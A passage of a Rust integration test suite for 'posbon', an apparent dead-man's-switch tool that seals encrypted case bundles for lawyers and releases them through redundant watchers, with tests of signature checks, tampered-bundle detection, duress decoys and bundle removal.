//! The sealed release, end to end, with three watchers: a journalist seals case material for
//! two lawyers (one with an age key, one with an SSH key), enrols with three watchers, and
//! goes silent; one watcher is killed and another frozen. The lawyers still receive signed
//! alerts and the bundle (once per id after dropping repeats), verify the alerts, and open
//! the bundle with `posbon open` and with the Go `age` CLI from Debian.

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;
use std::process::{Command, Output};
use std::time::Duration;

use common::receivers::{Received, Receiver, SmtpSink};
use common::watcher::{Daemon, invite};
use common::*;

fn header_line(text: &str, name: &str) -> String {
    text.lines()
        .find_map(|l| l.strip_prefix(&format!("{name}: ")))
        .unwrap_or_default()
        .to_string()
}

/// An unencrypted ed25519 SSH key from ssh-keygen: (private key file, public key line).
fn ssh_key(dir: &Path) -> (std::path::PathBuf, String) {
    let path = dir.join("pavel_ed25519");
    let out = Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", "pavel", "-f"])
        .arg(&path)
        .output()
        .expect("ssh-keygen");
    assert!(out.status.success(), "{}", stderr(&out));
    let public = std::fs::read_to_string(path.with_extension("pub")).unwrap();
    (path, public.trim().to_string())
}

#[test]
fn three_watchers_one_killed_one_frozen_still_release_to_both_lawyers() {
    let v = TestVault::new();
    let hub = Receiver::start();
    let smtp = SmtpSink::start(&v.path("mail"));
    let config = v.path("watcher.toml");
    std::fs::write(
        &config,
        "[delivery]\nretry_first = \"1s\"\nretry_max = \"2s\"\ntimeout = \"3s\"\nallow_private_addresses = true\n",
    )
    .unwrap();
    let args = ["--config", config.to_str().unwrap(), "--smtp", &smtp.url()];
    let watchers: Vec<Daemon> = ["nansmit", "lawfirm", "abroad"]
        .iter()
        .map(|name| Daemon::start_with(&v.path(name), 0, &args))
        .collect();
    for w in &watchers {
        let code = invite(&w.data, "Rustam Nazarov");
        v.ok(&["enrol", &w.url, &code], "");
    }

    // The lawyers' own keys: one age key, one SSH key.
    let keys = v.path("keys");
    std::fs::create_dir(&keys).unwrap();
    let (dilnoza_key, dilnoza_recipient) = age_key(&keys, "dilnoza");
    let (pavel_key, pavel_public) = ssh_key(&keys);
    let hub_url = hub.url();
    v.ok(
        &[
            "contact",
            "add",
            "Dilnoza",
            "--lang",
            "ru",
            "--tier",
            "2",
            "--role",
            "lawyer",
            "--email",
            "dilnoza@example.org",
            // She asked for the bundle by e-mail too (a mail provider keeps it for ever).
            "--email-attach",
            "--age-recipient",
            &dilnoza_recipient,
        ],
        "",
    );
    v.ok(
        &[
            "contact",
            "add",
            "Pavel",
            "--lang",
            "en",
            "--tier",
            "2",
            "--role",
            "lawyer",
            "--webhook",
            &format!("{hub_url}/hook/pavel"),
            "--age-recipient",
            &pavel_public,
        ],
        "",
    );
    v.ok(
        &[
            "contact",
            "add",
            "Sardor",
            "--lang",
            "tg",
            "--tier",
            "1",
            "--role",
            "editor",
            "--webhook",
            &format!("{hub_url}/hook/sardor"),
        ],
        "",
    );

    // The vault: a case note with a scan, a draft, and a source that must stay out.
    let note = v
        .ok(
            &[
                "add",
                "note",
                "--case",
                "12/2026",
                "--court",
                "Sino district",
            ],
            "Power of attorney signed 2026-11-01. Hearing 2026-12-03.",
        )
        .trim()
        .to_string();
    let scan = v.path("power-of-attorney.pdf");
    std::fs::write(&scan, b"%PDF-1.4 power of attorney, signed").unwrap();
    v.ok(&["attach", &note, scan.to_str().unwrap()], "");
    let draft = v.add_draft("Road tender: what the documents show", "Draft text.");
    let source = v
        .ok(
            &["add", "source", "--name", "Farhod the clerk"],
            "met at the market",
        )
        .trim()
        .to_string();

    // A source is refused unless named and confirmed; nothing is uploaded.
    let refused = v.run(
        &["release", "add", &note, &source, "--to", "Dilnoza", "--yes"],
        "",
    );
    assert_eq!(code(&refused), 2, "{}", stderr(&refused));
    assert!(stderr(&refused).contains("Farhod the clerk"));
    // Without --yes and without a terminal, nothing is sealed either.
    let unconfirmed = v.run(&["release", "add", &note, "--to", "Dilnoza"], "");
    assert_eq!(code(&unconfirmed), 2);
    assert!(stderr(&unconfirmed).contains("will reveal to Dilnoza"));

    let sealed = v.run(
        &[
            "release",
            "add",
            &note,
            &draft,
            "--to",
            "Dilnoza",
            "--to",
            "Pavel",
            "--name",
            "Case 12-2026",
            "--yes",
        ],
        "",
    );
    assert!(sealed.status.success(), "{}", stderr(&sealed));
    let preview = stderr(&sealed);
    assert!(
        preview.contains("will reveal to Dilnoza, Pavel"),
        "{preview}"
    );
    assert!(
        preview.contains("attachment: power-of-attorney.pdf"),
        "{preview}"
    );
    assert_eq!(
        stdout(&sealed).matches("stored").count(),
        3,
        "on every watcher"
    );
    let listed = v.ok(&["release", "list"], "");
    assert!(
        listed.contains("Case 12-2026\t2 record(s)\tfor Dilnoza, Pavel"),
        "{listed}"
    );
    // The watchers hold only ciphertext.
    for w in &watchers {
        for entry in walk(&w.data) {
            let bytes = std::fs::read(&entry).unwrap();
            for secret in [
                &b"Power of attorney"[..],
                b"power of attorney, signed",
                b"Farhod",
                // Nor any title: the bundle's name is what the journalist chose to show.
                b"Road tender",
            ] {
                assert!(
                    !bytes.windows(secret.len()).any(|w| w == secret),
                    "{} holds plaintext",
                    entry.display()
                );
            }
        }
    }

    v.ok(
        &[
            "plan",
            "set",
            "--every",
            "2s",
            "--grace",
            "0s",
            "--step",
            "tier1:0s",
            "--step",
            "tier2:1s",
            "--step",
            "release:2s",
        ],
        "",
    );
    // The journalist goes silent. One watcher is seized (killed), one blocked (frozen).
    let mut watchers = watchers.into_iter();
    let seized = watchers.next().unwrap();
    let blocked = watchers.next().unwrap();
    let survivor = watchers.next().unwrap();
    seized.kill_9();
    unsafe { libc::kill(blocked.child.id() as i32, libc::SIGSTOP) };

    let hooks = |path: &str, step: &str| -> Vec<Received> {
        hub.received()
            .into_iter()
            .filter(|r| r.path == path && r.json()["step"] == step)
            .collect()
    };
    let mails = |step: &str| -> Vec<Vec<u8>> {
        SmtpSink::messages(&smtp.dir)
            .into_iter()
            .filter(|m| header_line(&mail_text(m), "step") == step)
            .collect()
    };
    wait_until(
        "alerts and the release from the surviving watcher",
        Duration::from_secs(40),
        || {
            !hooks("/hook/sardor", "tier1").is_empty()
                && !hooks("/hook/pavel", "release").is_empty()
                && !mails("release").is_empty()
        },
    );
    // The frozen watcher comes back and sends the same alerts: the same ids.
    unsafe { libc::kill(blocked.child.id() as i32, libc::SIGCONT) };
    wait_until(
        "the blocked watcher's copies",
        Duration::from_secs(40),
        || hooks("/hook/pavel", "release").len() == 2 && mails("release").len() == 2,
    );

    // Per step and contact: two copies (one per live watcher), one id.
    let mut ids: BTreeMap<(String, String), BTreeSet<String>> = BTreeMap::new();
    for r in hub.received() {
        let json = r.json();
        ids.entry((r.path.clone(), json["step"].as_str().unwrap().to_string()))
            .or_default()
            .insert(json["id"].as_str().unwrap().to_string());
    }
    for m in SmtpSink::messages(&smtp.dir) {
        let text = mail_text(&m);
        ids.entry(("mail".into(), header_line(&text, "step")))
            .or_default()
            .insert(header_line(&text, "id"));
    }
    for ((path, step), set) in &ids {
        assert_eq!(
            set.len(),
            1,
            "{path} {step}: the same missed deadline has one id"
        );
    }
    assert!(ids.contains_key(&("/hook/sardor".into(), "tier1".into())));
    // The editor hears of the release step, but receives no bundle: it was not sealed for him.
    let editors = hooks("/hook/sardor", "release");
    assert!(!editors.is_empty(), "the editor hears of the release step");
    assert!(
        editors
            .iter()
            .all(|r| r.json()["bundles"].as_array().is_some_and(|b| b.is_empty())),
        "the editor receives no bundle"
    );

    // The alerts verify against either live watcher's fingerprint.
    let pavel_release = &hooks("/hook/pavel", "release")[0];
    let fingerprints = [&blocked.fingerprint, &survivor.fingerprint];
    let dir = v.path("lawyer");
    std::fs::create_dir(&dir).unwrap();
    let alert_file = dir.join("alert.json");
    std::fs::write(&alert_file, &pavel_release.body).unwrap();
    let signer = pavel_release.json()["fingerprint"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(fingerprints.iter().any(|f| **f == signer));
    let out = posbon()
        .args(["alert", "verify", "--watcher", &signer])
        .arg(&alert_file)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));

    // Pavel downloads his bundle through the link, and opens it with his SSH key.
    let bundles = pavel_release.json()["bundles"].clone();
    assert_eq!(bundles.as_array().unwrap().len(), 1, "{bundles}");
    let link = bundles[0]["url"].as_str().unwrap();
    let http = reqwest::blocking::Client::new();
    // Opening the link (as a link preview would) shows a page and changes nothing.
    for _ in 0..5 {
        let page = http.get(link).send().unwrap();
        assert_eq!(page.status(), 200);
        let html = page.text().unwrap();
        assert!(html.contains("as often as needed"), "{html}");
        assert!(html.contains("LC_ALL=C tar -tvf bundle.tar"), "{html}");
    }
    let downloaded = http.post(link).send().unwrap();
    assert_eq!(downloaded.status(), 200);
    let pavel_bundle = dir.join("case.age");
    std::fs::write(&pavel_bundle, downloaded.bytes().unwrap()).unwrap();
    let opened = posbon()
        .args(["open", "--unchecked"])
        .arg(&pavel_bundle)
        .arg("-i")
        .arg(&pavel_key)
        .arg("--out")
        .arg(dir.join("pavel"))
        .output()
        .unwrap();
    assert!(opened.status.success(), "{}", stderr(&opened));
    let listing = stdout(&opened);
    assert!(
        listing.contains("bundle: Case 12-2026") && listing.contains("for: Dilnoza, Pavel"),
        "{listing}"
    );
    // Signed by the journalist's sealing key, whose fingerprint she gave the lawyers.
    let sealing = v.ok(&["release", "key"], "").trim().to_string();
    assert_eq!(sealing.len(), 39, "128 bits in groups of four: {sealing}");
    assert!(
        listing.contains(&format!("signed by: {sealing}")),
        "{listing}"
    );
    let note_dir = std::fs::read_dir(dir.join("pavel"))
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| p.file_name().unwrap().to_string_lossy().starts_with("01-"))
        .unwrap();
    assert_eq!(
        std::fs::read(note_dir.join("power-of-attorney.pdf")).unwrap(),
        b"%PDF-1.4 power of attorney, signed"
    );
    let record_txt = std::fs::read_to_string(note_dir.join("record.txt")).unwrap();
    assert!(record_txt.contains("Hearing 2026-12-03"), "{record_txt}");
    // Labelled for a lawyer who reads Russian or Tajik as well as for one who reads English.
    assert!(
        record_txt
            .contains("kind / вид / навъ: case note / заметка по делу / ёддошт оид ба парванда\n"),
        "{record_txt}"
    );
    // No count to use up: the link works until it expires, however often it is used.
    for _ in 0..4 {
        assert_eq!(http.post(link).send().unwrap().status(), 200);
    }
    assert_eq!(http.get(link).send().unwrap().status(), 200);

    // Dilnoza's bundle is attached to her e-mail; the Go `age` CLI opens it with her age key.
    let mail = mails("release").remove(0);
    let message = mail_parser::MessageParser::default().parse(&mail).unwrap();
    let attachment = message
        .attachments()
        .next()
        .expect("the bundle is attached");
    let dilnoza_bundle = dir.join("dilnoza.age");
    std::fs::write(&dilnoza_bundle, attachment.contents()).unwrap();
    let out = posbon()
        .args(["alert", "verify", "--watcher", &signer_of(&mail)])
        .arg({
            let p = dir.join("mail.eml");
            std::fs::write(&p, &mail).unwrap();
            p
        })
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "an e-mail with an attachment verifies: {}",
        stderr(&out)
    );
    let tar = dir.join("dilnoza.tar");
    let out = go_age()
        .args(["-d", "-i"])
        .arg(&dilnoza_key)
        .arg("-o")
        .arg(&tar)
        .arg(&dilnoza_bundle)
        .output()
        .unwrap();
    assert!(out.status.success(), "Go age: {}", stderr(&out));
    let listed = Command::new("tar").arg("tf").arg(&tar).output().unwrap();
    let names = stdout(&listed);
    assert!(
        names.contains("MANIFEST.txt") && names.contains("manifest.json"),
        "{names}"
    );
    assert!(names.contains("power-of-attorney.pdf"), "{names}");
    assert_eq!(names.matches("record.txt").count(), 2);
    let plaintext = std::fs::read(&tar).unwrap();
    assert!(
        !plaintext.windows(6).any(|w| w == b"Farhod"),
        "the source is in no bundle"
    );
    // Anyone else's key opens nothing.
    let (stranger_key, _) = age_key(&keys, "stranger");
    let wrong = open_bundle(&dilnoza_bundle, &stranger_key, &dir.join("wrong"), None);
    assert_eq!(code(&wrong), 3, "{}", stderr(&wrong));
    assert!(stderr(&wrong).contains("cannot open the bundle"));
    // A key file that is not there is an I/O error (1); a folder that is already there is
    // the user's to change (2), and is left as it was.
    let open_into = |key: &Path, out: &Path| open_bundle(&dilnoza_bundle, key, out, None);
    let no_key = open_into(&dir.join("no-such-key.txt"), &dir.join("nokey"));
    assert_eq!(code(&no_key), 1, "{}", stderr(&no_key));
    assert!(
        stderr(&no_key).contains("cannot read"),
        "{}",
        stderr(&no_key)
    );
    let taken = dir.join("taken");
    std::fs::create_dir(&taken).unwrap();
    std::fs::write(taken.join("mine.txt"), b"the lawyer's own file").unwrap();
    let exists = open_into(&dilnoza_key, &taken);
    assert_eq!(code(&exists), 2, "{}", stderr(&exists));
    assert!(
        stderr(&exists).contains("already exists"),
        "{}",
        stderr(&exists)
    );
    assert_eq!(
        std::fs::read(taken.join("mine.txt")).unwrap(),
        b"the lawyer's own file"
    );

    // --from: the genuine bundle, named by the fingerprint as she read it out.
    let as_read_out = sealing.to_uppercase().replace('-', " ");
    let genuine = open_bundle(
        &dilnoza_bundle,
        &dilnoza_key,
        &dir.join("genuine"),
        Some(&as_read_out),
    );
    assert!(genuine.status.success(), "{}", stderr(&genuine));
    // Anyone with Dilnoza's public key (a watcher's operator, say) can encrypt a file to it.
    // An altered copy re-sealed with the Go age CLI: caught by the signature.
    let forge = |tar: &Path, name: &str| -> std::path::PathBuf {
        let forged = dir.join(name);
        let out = go_age()
            .args(["-r", &dilnoza_recipient, "-o"])
            .arg(&forged)
            .arg(tar)
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", stderr(&out));
        forged
    };
    let unpacked = dir.join("unpacked");
    std::fs::create_dir(&unpacked).unwrap();
    let untar = Command::new("tar")
        .arg("xf")
        .arg(&tar)
        .arg("-C")
        .arg(&unpacked)
        .output()
        .unwrap();
    assert!(untar.status.success());
    let order: Vec<String> = names.lines().map(str::to_string).collect();
    let repack = |name: &str, skip_signature: bool| -> std::path::PathBuf {
        let repacked = dir.join(name);
        let out = Command::new("tar")
            .arg("--format=ustar")
            .arg("-cf")
            .arg(&repacked)
            .arg("-C")
            .arg(&unpacked)
            .args(
                order
                    .iter()
                    .filter(|n| !(skip_signature && n.as_str() == "SIGNATURE.json")),
            )
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", stderr(&out));
        repacked
    };
    let note = walk(&unpacked)
        .into_iter()
        .find(|p| {
            p.ends_with("record.txt") && std::fs::read_to_string(p).unwrap().contains("Hearing")
        })
        .unwrap();
    let text = std::fs::read_to_string(&note).unwrap();
    std::fs::write(&note, text.replacen("Hearing", "No hearing", 1)).unwrap();
    let altered = forge(&repack("altered.tar", false), "altered.age");
    let opened = open_bundle(&altered, &dilnoza_key, &dir.join("altered"), None);
    assert_eq!(code(&opened), 4, "{}", stderr(&opened));
    assert!(
        stderr(&opened).contains("something was changed after sealing"),
        "{}",
        stderr(&opened)
    );
    assert!(!dir.join("altered").exists(), "nothing is left of it");
    // The same without the signature: shown as unsigned, and refused under --from.
    let unsigned = forge(&repack("unsigned.tar", true), "unsigned.age");
    let open_unsigned =
        |out: &str, from: Option<&str>| open_bundle(&unsigned, &dilnoza_key, &dir.join(out), from);
    let shown = open_unsigned("unsigned", None);
    assert!(shown.status.success(), "{}", stderr(&shown));
    assert!(
        stdout(&shown).contains("signed by: NOBODY: this bundle is NOT SIGNED"),
        "{}",
        stdout(&shown)
    );
    assert!(stderr(&shown).contains("WARNING: this bundle is not signed"));
    let refused = open_unsigned("unsigned-from", Some(&sealing));
    assert_eq!(code(&refused), 10, "{}", stderr(&refused));
    assert!(!dir.join("unsigned-from").exists());
    // And a genuine bundle under a fingerprint that is not its sealer's.
    let other = "0000-1111-2222-3333-4444-5555-6666-7777";
    let wrong_from = open_bundle(
        &dilnoza_bundle,
        &dilnoza_key,
        &dir.join("wrong-from"),
        Some(other),
    );
    assert_eq!(code(&wrong_from), 10, "{}", stderr(&wrong_from));
    // A shortened fingerprint is a typing mistake (exit 2), not another sealer.
    let short = open_bundle(
        &dilnoza_bundle,
        &dilnoza_key,
        &dir.join("short-from"),
        Some(&sealing[..9]),
    );
    assert_eq!(code(&short), 2, "{}", stderr(&short));
    assert!(stderr(&short).contains("not a whole sealing fingerprint"));
    assert!(stderr(&wrong_from).contains("not from the journalist you named"));
    assert!(!dir.join("wrong-from").exists());
    drop(blocked);
    drop(survivor);
}

/// `posbon open BUNDLE -i KEY --out OUT (--from FINGERPRINT | --unchecked)`, as a lawyer
/// runs it.
fn open_bundle(bundle: &Path, key: &Path, out: &Path, from: Option<&str>) -> Output {
    let mut command = posbon();
    command
        .arg("open")
        .arg(bundle)
        .arg("-i")
        .arg(key)
        .arg("--out")
        .arg(out);
    match from {
        Some(from) => command.args(["--from", from]),
        None => command.arg("--unchecked"),
    };
    command.output().unwrap()
}

fn signer_of(mail: &[u8]) -> String {
    header_line(&mail_text(mail), "watcher")
}

fn walk(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    if let Ok(entries) = std::fs::read_dir(dir) {
        for entry in entries.flatten() {
            let path = entry.path();
            if path.is_dir() {
                out.extend(walk(&path));
            } else {
                out.push(path);
            }
        }
    }
    out
}

#[test]
fn watchers_that_disagree_about_the_plan_are_reported() {
    let v = TestVault::new();
    let a = Daemon::start(&v.path("a"));
    let b = Daemon::start(&v.path("b"));
    for w in [&a, &b] {
        let code = invite(&w.data, "Rustam");
        v.ok(&["enrol", &w.url, &code], "");
    }
    v.ok(&["plan", "set", "--every", "1d", "--grace", "2h"], "");
    // B is down while the plan changes: it keeps the old one.
    let port = b.port();
    let data = b.data.clone();
    assert!(b.stop());
    let out = v.run(&["plan", "set", "--every", "12h", "--grace", "1h"], "");
    assert_eq!(code(&out), 8, "{}", stderr(&out));
    let b = Daemon::start_on(&data, port);
    let out = v.run(&["checkin"], "");
    assert_eq!(code(&out), 9, "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains("every watcher answered, but they disagree about your plan"),
        "{err}"
    );
    assert!(
        err.contains(&format!("{} has the plan: every 1d", b.url)),
        "{err}"
    );
    assert!(
        err.contains(&format!("{} has the plan: every 12h", a.url)),
        "{err}"
    );
    // Setting it again brings them in line.
    v.ok(&["plan", "set", "--every", "12h", "--grace", "1h"], "");
    v.ok(&["checkin"], "");
}

#[test]
fn a_watcher_enrolled_later_gets_the_plan_and_contacts() {
    let v = TestVault::new();
    let a = Daemon::start(&v.path("a"));
    let code = invite(&a.data, "Rustam");
    v.ok(&["enrol", &a.url, &code], "");
    v.ok(&["plan", "set", "--every", "1d", "--grace", "2h"], "");
    let b = Daemon::start(&v.path("b"));
    let code = invite(&b.data, "Rustam");
    v.ok(&["enrol", &b.url, &code], "");
    let status = v.ok(&["status"], "");
    assert_eq!(
        status.matches("plan: every 1d, grace 2h").count(),
        2,
        "{status}"
    );
}

/// The bundle files a watcher holds, with their contents.
fn bundle_files(data: &Path) -> Vec<(std::path::PathBuf, Vec<u8>)> {
    walk(&data.join("bundles"))
        .into_iter()
        .map(|p| {
            let bytes = std::fs::read(&p).unwrap();
            (p, bytes)
        })
        .collect()
}

#[test]
fn update_replaces_a_bundle_remove_deletes_it_and_duress_stores_nothing() {
    let v = TestVault::new();
    let w = Daemon::start(&v.path("w"));
    let invite_code = invite(&w.data, "Rustam");
    v.ok(&["enrol", &w.url, &invite_code], "");
    let (_, recipient) = age_key(v.temp.path(), "lawyer");
    v.add_lawyer(&recipient);
    let note = v.add_draft("Statement", "first version");
    // Tier 0 is the journalist's own channel: reminders only, so never a release.
    v.ok(
        &[
            "contact",
            "add",
            "Me",
            "--lang",
            "en",
            "--tier",
            "0",
            "--email",
            "me@example.org",
            "--age-recipient",
            &recipient,
        ],
        "",
    );
    let to_me = v.run(&["release", "add", &note, "--to", "Me", "--yes"], "");
    assert_eq!(code(&to_me), 2, "{}", stderr(&to_me));
    assert!(stderr(&to_me).contains("tier 0"), "{}", stderr(&to_me));
    v.ok(&["release", "add", &note, "--to", "Dilnoza", "--yes"], "");
    let id = v
        .ok(&["release", "list"], "")
        .split('\t')
        .next()
        .unwrap()
        .to_string();
    assert!(
        v.ok(&["release", "list"], "")
            .contains(&format!("bundle {}", &id[..6]))
    );
    let first = bundle_files(&w.data);
    assert_eq!(first.len(), 1);
    assert!(
        v.ok(&["release", "check"], "")
            .contains("holds all 1 bundle(s)")
    );

    // A watcher enrolled later is sent it at enrolment (sealed again, on both watchers;
    // `enrolling_sends_the_bundles_to_the_new_watcher_and_says_what_is_missing` tells more).
    let later = Daemon::start(&v.path("later"));
    let invite_code = invite(&later.data, "Rustam");
    v.ok(&["enrol", &later.url, &invite_code], "");
    v.ok(&["checkin"], "");
    assert_eq!(
        v.ok(&["release", "check"], "")
            .matches("holds all 1 bundle(s)")
            .count(),
        2
    );

    // Edited, then sealed again: the watcher's copy is replaced, not added to.
    v.ok(&["edit", &note, "--stdin-body"], "second version");
    v.ok(&["release", "update", &id[..8], "--yes"], "");
    let second = bundle_files(&w.data);
    assert_eq!(second.len(), 1);
    assert_eq!(first[0].0, second[0].0);
    assert_ne!(first[0].1, second[0].1);

    // Under the duress passphrase, an upload looks stored and stores nothing.
    let duress = v.set_duress("a quiet river at dawn");
    let decoy_note =
        stdout(&v.run_with_pass(&duress, &["add", "draft", "--title", "Shopping"], "milk"))
            .trim()
            .to_string();
    let added = v.run_with_pass(
        &duress,
        &[
            "contact",
            "add",
            "Dilnoza",
            "--lang",
            "ru",
            "--tier",
            "2",
            "--email",
            "d@example.org",
            "--age-recipient",
            &recipient,
        ],
        "",
    );
    assert!(added.status.success(), "{}", stderr(&added));
    let out = v.run_with_pass(
        &duress,
        &["release", "add", &decoy_note, "--to", "Dilnoza", "--yes"],
        "",
    );
    assert!(out.status.success(), "it looks stored: {}", stderr(&out));
    assert_eq!(bundle_files(&w.data), second, "nothing was stored");
    // And the decoy's check does not give that away.
    let checked = v.run_with_pass(&duress, &["release", "check"], "");
    assert!(checked.status.success(), "{}", stderr(&checked));
    assert!(stdout(&checked).contains("holds all 1 bundle(s)"));
    let checked_in = v.run_with_pass(&duress, &["checkin"], "");
    assert!(checked_in.status.success(), "{}", stderr(&checked_in));
    assert!(
        !stderr(&checked_in).contains("bundle"),
        "{}",
        stderr(&checked_in)
    );

    // An id that names no bundle is like a record that is not there (1); too short, a
    // usage error (2).
    assert_eq!(code(&v.run(&["release", "remove", "0000ffff0000"], "")), 1);
    assert_eq!(code(&v.run(&["release", "remove", "ff"], "")), 2);
    // A removal that one watcher misses is remembered: the bundle stays withdrawn, and
    // check-ins ask for the removal again, never for a re-upload.
    let (later_port, later_data) = (later.port(), later.data.clone());
    assert!(later.stop());
    let removed = v.run(&["release", "remove", &id[..8]], "");
    assert_eq!(code(&removed), 8, "{}", stderr(&removed));
    assert!(
        stderr(&removed).contains("run `posbon release remove"),
        "{}",
        stderr(&removed)
    );
    assert!(bundle_files(&w.data).is_empty(), "the file is gone");
    assert!(
        v.ok(&["release", "list"], "")
            .trim_end()
            .ends_with("\tremoval-pending")
    );
    // Sealing it again would send out what was withdrawn: refused.
    let update = v.run(&["release", "update", &id[..8], "--yes"], "");
    assert_eq!(code(&update), 2, "{}", stderr(&update));
    assert!(bundle_files(&w.data).is_empty(), "nothing was sent again");
    let later = Daemon::start_on(&later_data, later_port);
    let checked_in = v.run(&["checkin"], "");
    assert_eq!(code(&checked_in), 12, "{}", stderr(&checked_in));
    assert!(
        stderr(&checked_in).contains(&format!("{} still holds bundle {id} (", later.url))
            && stderr(&checked_in).contains("which you removed"),
        "{}",
        stderr(&checked_in)
    );
    assert!(
        !stderr(&checked_in).contains("release update"),
        "{}",
        stderr(&checked_in)
    );
    v.ok(&["release", "remove", &id[..8]], "");
    assert!(bundle_files(&later.data).is_empty());
    assert!(v.ok(&["release", "list"], "").is_empty());
    v.ok(&["checkin"], "");
}

/// Adds `Dilnoza`, a lawyer with the age key `recipient`, in the view `pass` opens.
fn add_lawyer(v: &TestVault, pass: Option<&Path>, recipient: &str) {
    let args = lawyer_args(recipient);
    let out = match pass {
        Some(pass) => v.run_with_pass(pass, &args, ""),
        None => v.run(&args, ""),
    };
    assert!(out.status.success(), "{}", stderr(&out));
}

/// Everything `posbon open` wrote from `bundle`, opened with `key` for the sealer `from`,
/// as one text; and what it printed.
fn opened_text(v: &TestVault, bundle: &Path, key: &Path, from: &str) -> (String, String) {
    let out_dir = v.path(&format!("opened-{}", rand_suffix()));
    let opened = open_bundle(bundle, key, &out_dir, Some(from));
    assert!(opened.status.success(), "{}", stderr(&opened));
    let text = walk(&out_dir)
        .iter()
        .map(|p| String::from_utf8_lossy(&std::fs::read(p).unwrap()).into_owned())
        .collect::<Vec<_>>()
        .join("\n");
    (text, stdout(&opened))
}

fn rand_suffix() -> String {
    use std::sync::atomic::{AtomicUsize, Ordering};
    static N: AtomicUsize = AtomicUsize::new(0);
    N.fetch_add(1, Ordering::SeqCst).to_string()
}

/// Issue 15: a watcher enrolled with after bundles were sealed is sent them at enrolment, so
/// the next check-in passes; every watcher then holds the same version, and the new one's
/// copy opens for the lawyer as the journalist's.
#[test]
fn enrolling_a_third_watcher_sends_it_the_bundles_and_the_check_in_passes() {
    let v = TestVault::new();
    let (a, b) = (Daemon::start(&v.path("a")), Daemon::start(&v.path("b")));
    for w in [&a, &b] {
        v.ok(&["enrol", &w.url, &invite(&w.data, "Rustam")], "");
    }
    v.ok(&["plan", "set", "--every", "1d", "--grace", "2h"], "");
    let (key, recipient) = age_key(v.temp.path(), "dilnoza");
    add_lawyer(&v, None, &recipient);
    let note = v.add_draft("Statement", "what I saw at the court");
    v.ok(
        &[
            "release", "add", &note, "--to", "Dilnoza", "--name", "Case", "--yes",
        ],
        "",
    );
    let id = v.ok(&["release", "list"], "")[..32].to_string();

    let c = Daemon::start(&v.path("c"));
    let enrolled = v.run(&["enrol", &c.url, &invite(&c.data, "Rustam")], "");
    assert!(enrolled.status.success(), "{}", stderr(&enrolled));
    assert_eq!(
        stdout(&enrolled).lines().nth(1),
        Some(
            format!("bundle {id} (Case): sealed again as version 2 and stored on every watcher")
                .as_str()
        ),
        "{}",
        stdout(&enrolled)
    );
    let said = stderr(&enrolled);
    assert!(said.contains("sending the bundle you sealed"), "{said}");
    assert!(
        said.contains("will reveal to Dilnoza") && said.contains("[draft] Statement"),
        "what it reveals is shown: {said}"
    );
    assert!(!said.contains("WARNING"), "{said}");

    // The next check-in passes, and every watcher holds the same file.
    let checked_in = v.run(&["checkin"], "");
    assert_eq!(code(&checked_in), 0, "{}", stderr(&checked_in));
    assert_eq!(stdout(&checked_in).matches("checked in").count(), 3);
    assert_eq!(
        v.ok(&["release", "check"], "")
            .matches("holds all 1 bundle(s)")
            .count(),
        3
    );
    let files: Vec<_> = [&a, &b, &c].iter().map(|w| bundle_files(&w.data)).collect();
    for held in &files {
        assert_eq!(held.len(), 1, "{held:?}");
        assert_eq!(
            held[0].1, files[2][0].1,
            "one version is one file everywhere"
        );
    }
    // The operator of the new watcher sees it held, read beside the running daemon.
    let listed = posbon()
        .args(["watch", "journalists", "--data"])
        .arg(&c.data)
        .output()
        .unwrap();
    assert!(
        stdout(&listed).contains("1 sealed bundle,"),
        "{}",
        stdout(&listed)
    );
    // The lawyer opens the new watcher's copy as the journalist's own.
    let sealer = v.ok(&["release", "key"], "").trim().to_string();
    let (text, printed) = opened_text(&v, &files[2][0].0, &key, &sealer);
    assert!(text.contains("what I saw at the court"), "{text}");
    assert!(
        printed.contains(&format!("version: 2 of bundle {id}")),
        "{printed}"
    );
}

/// Issue 15: an upload at enrolment that fails leaves the enrolment standing and says which
/// bundle the new watcher lacks and what to run (exit 12); check-ins say it again until it
/// is run.
#[test]
fn enrolling_where_the_bundle_cannot_be_stored_stands_and_names_what_is_missing() {
    let v = TestVault::new();
    let a = Daemon::start(&v.path("a"));
    v.ok(&["enrol", &a.url, &invite(&a.data, "Rustam")], "");
    v.ok(&["plan", "set", "--every", "1d", "--grace", "2h"], "");
    add_lawyer(&v, None, &age_key(v.temp.path(), "dilnoza").1);
    let note = v.add_draft("Statement", "what I saw");
    v.ok(
        &[
            "release", "add", &note, "--to", "Dilnoza", "--name", "Case", "--yes",
        ],
        "",
    );
    let id = v.ok(&["release", "list"], "")[..32].to_string();

    // The new watcher cannot store bundles: where they go is a file, not a folder.
    let b = Daemon::start(&v.path("b"));
    let shelf = b.data.join("bundles");
    std::fs::write(&shelf, b"not a folder").unwrap();
    let enrolled = v.run(&["enrol", &b.url, &invite(&b.data, "Rustam")], "");
    assert_eq!(code(&enrolled), 12, "{}", stderr(&enrolled));
    let said = stderr(&enrolled);
    assert!(
        said.contains(&format!(
            "posbon: WARNING: {} lacks bundle {id} (Case): run `posbon release update {id}` \
             when it answers",
            b.url
        )),
        "{said}"
    );
    assert!(
        said.trim_end().ends_with(&format!(
            "you are enrolled with {}, but it does not hold every bundle you sealed (listed \
             above): a release from it would go out without them",
            b.url
        )),
        "{said}"
    );
    assert!(!said.contains(&format!("WARNING: {}", a.url)), "{said}");
    // The enrolment stands: the fingerprint was printed, and the check-in reaches both,
    // exits 12 and names the gap.
    assert_eq!(
        stdout(&enrolled).lines().next(),
        Some(b.fingerprint.as_str())
    );
    let checked_in = v.run(&["checkin"], "");
    assert_eq!(code(&checked_in), 12, "{}", stderr(&checked_in));
    assert_eq!(stdout(&checked_in).matches("checked in").count(), 2);
    assert!(
        stderr(&checked_in).contains(&format!("WARNING: {} lacks bundle {id}", b.url)),
        "{}",
        stderr(&checked_in)
    );
    let status = v.run(&["status"], "");
    assert!(status.status.success(), "{}", stderr(&status));
    assert!(
        stderr(&status).contains(&format!("WARNING: {} lacks bundle {id}", b.url)),
        "{}",
        stderr(&status)
    );
